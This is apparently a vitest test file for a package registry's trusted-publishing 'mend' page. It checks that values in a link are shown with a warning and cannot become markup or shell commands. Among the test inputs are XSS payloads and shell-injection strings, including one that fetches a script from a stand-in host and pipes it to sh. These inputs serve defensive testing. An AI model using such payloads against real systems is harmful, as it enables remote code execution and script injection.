import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../../testing/test-server.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

const job = {
  provider: 'gitlab',
  'identity.namespace': 'acme',
  'identity.project': 'rocket',
  'identity.workflow': '.gitlab-ci.yml',
  environment: 'release',
  crate: 'rocket',
  attempt: '3f0c0000-0000-4000-8000-000000000000',
};
const open = (change: Record<string, string | undefined> = {}) => {
  const fields = Object.entries({ ...job, ...change }).filter(
    (entry): entry is [string, string] => entry[1] !== undefined,
  );
  return server.request('GET', `/trusted-publishing/mend?${new URLSearchParams(fields)}`, { token: null });
};

it('shows the job of the link, where to look, and the request that would trust it', async () => {
  const answer = await open();
  expect(answer.status).toBe(200);
  for (const value of ['acme', 'rocket', '.gitlab-ci.yml', 'release', job.attempt]) {
    expect(answer.text).toContain(value);
  }
  expect(answer.text).toContain('anybody can write a link');
  expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'");
  expect(answer.headers.get('cache-control')).toBe('no-store');
});

it('says before anything else that a link proves nothing, and how to see whether there was such a job', async () => {
  const { text } = await open();
  const warned = text.indexOf('anybody can write a link');
  expect(warned).toBeGreaterThan(0);
  for (const later of ['<dl>', 'See whether it is true', 'Trust this job'])
    expect(text.indexOf(later)).toBeGreaterThan(warned);
  expect(text.indexOf('Trust this job')).toBeGreaterThan(text.indexOf('See whether it is true'));
  // Not as a fact: there may have been no job at all.
  expect(text).not.toContain('was refused. It said');
  expect(text).toContain('If the attempts do not show it, do not go on');
  const link = text.indexOf(`href="${server.url}/attempts/${job.attempt}"`);
  expect(link).toBeGreaterThan(text.indexOf('See whether it is true'));
  expect(link).toBeLessThan(text.indexOf('Trust this job'));
});

it.each(["it's;calc;'.yml", 'it\u2019s;calc;\u2018.yml', 'r\u0435lease.yml'])(
  'no shell reads a quote inside the request, however it quotes: %s',
  async (workflow) => {
    const { text } = await open({ 'identity.workflow': workflow });
    const [, shown = ''] = /-d &#39;(\{[\s\S]*?\n\})&#39;<\/code>/.exec(text) ?? [];
    expect(shown).not.toContain('&#39;');
    expect(shown).toMatch(/^[\n -~]+$/);
    const body = JSON.parse(shown.replaceAll('&quot;', '"').replaceAll('&amp;', '&'));
    expect(body.publisher.identity.workflow).toBe(workflow);
  },
);

it('the request it shows is one that the registry takes', async () => {
  const { text } = await open();
  const [, shown = ''] = /-d &#39;(\{[\s\S]*?\n\})&#39;/.exec(text) ?? [];
  const body: unknown = JSON.parse(shown.replaceAll('&quot;', '"'));
  const answer = await server.request('POST', '/api/v1/trusted_publishing/publishers', { body });
  // Here there is no issuer of GitLab; everything before that was right.
  expect(answer.json.errors[0].code).toBe('issuer_not_configured');
});

it('shows the same as a command of `waybill`, whose words are kept together', async () => {
  const command = async (change: Record<string, string | undefined> = {}) => {
    const { text } = await open(change);
    const [, shown = ''] = /<code>waybill publisher add ([\s\S]*?)<\/code>/.exec(text) ?? [];
    return shown.replaceAll('&#39;', "'").replaceAll(' \\\n  ', ' ').split(' --registry=')[0]?.trim();
  };
  expect(await command()).toBe(
    '\\\n  --provider=gitlab --namespace=acme --project=rocket --workflow=.gitlab-ci.yml --environment=release --crate=rocket',
  );
  expect(await command({ environment: undefined })).toContain('--environment=none --crate');
  expect(await command({ environment: 'none' })).toContain('--environment=named:none --crate');
  expect(await command({ 'identity.workflow': 'a;id.yml' })).toContain(" '--workflow=a;id.yml' ");
  // Shells differ in how a quote is quoted: there is only the request below then.
  for (const workflow of ["a';id;'.yml", 'a\u2019;id;\u2018.yml'])
    expect(await command({ 'identity.workflow': workflow })).toBe('');
});

describe('nothing in a link becomes markup, or a command of the shell it is pasted into', () => {
  const values = [
    '<script>alert(1)</script>.yml',
    '"><img src=x onerror=alert(1)>.yml',
    "';curl evil.example|sh;'.yml",
    '$(id)`id`.yml',
    'a\u202elmy.yml',
    'a\r\nx.yml',
    `${'a'.repeat(5000)}.yml`,
  ];
  for (const field of [
    'identity.namespace',
    'identity.project',
    'identity.workflow',
    'environment',
    'crate',
    'attempt',
    'provider',
  ]) {
    it.each(values)(`${field}: %j`, async (value) => {
      const { status, text } = await open({ [field]: value });
      expect(status).toBe(200);
      const body = text.slice(text.indexOf('<main>'));
      expect(body).not.toMatch(/<script|<img|\u202e/);
      expect(body.length).toBeLessThan(20_000);
      for (const command of body.match(/-d &#39;[\s\S]*?<\/code>/g) ?? [])
        expect(command.slice('-d &#39;'.length)).toMatch(/^(?:(?!&#39;)[\n -~])*&#39;<\/code>$/);
    });
  }
});

it.each([
  ['nothing', { provider: undefined }],
  ['a provider that is a word of the language', { provider: 'constructor' }],
  ['no field of the identity', { 'identity.workflow': undefined }],
])('a link with %s is no page, and no failure either', async (_, change) => {
  const { status, text } = await open(change);
  expect(status).toBe(200);
  expect(text).toContain('This link cannot be read');
  expect(text).not.toContain('curl');
});

it('a field given twice is not taken', async () => {
  const query = `${new URLSearchParams(job)}&identity.workflow=other.yml`;
  const answer = await server.request('GET', `/trusted-publishing/mend?${query}`, { token: null });
  expect(answer.text).toContain('This link cannot be read');
});
